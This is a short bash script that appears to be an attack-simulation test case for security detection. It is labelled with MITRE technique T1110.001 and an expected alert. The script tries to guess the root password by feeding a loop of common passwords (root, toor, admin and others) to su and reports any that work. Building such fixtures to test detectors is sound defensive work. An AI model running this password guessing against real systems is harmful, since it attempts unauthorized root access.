#!/usr/bin/env bash
# tactic: credential-access
# technique: T1110.001 Brute Force: Password Guessing
# behaviour: guesses root's password with su in a loop, a few common passwords
# as: user
# expect: unusual_switch_user
set -u
for pw in root toor admin password 123456 changeme; do
  echo "$pw" | timeout 5 su -c true root 2>/dev/null && echo "found $pw"
done
true
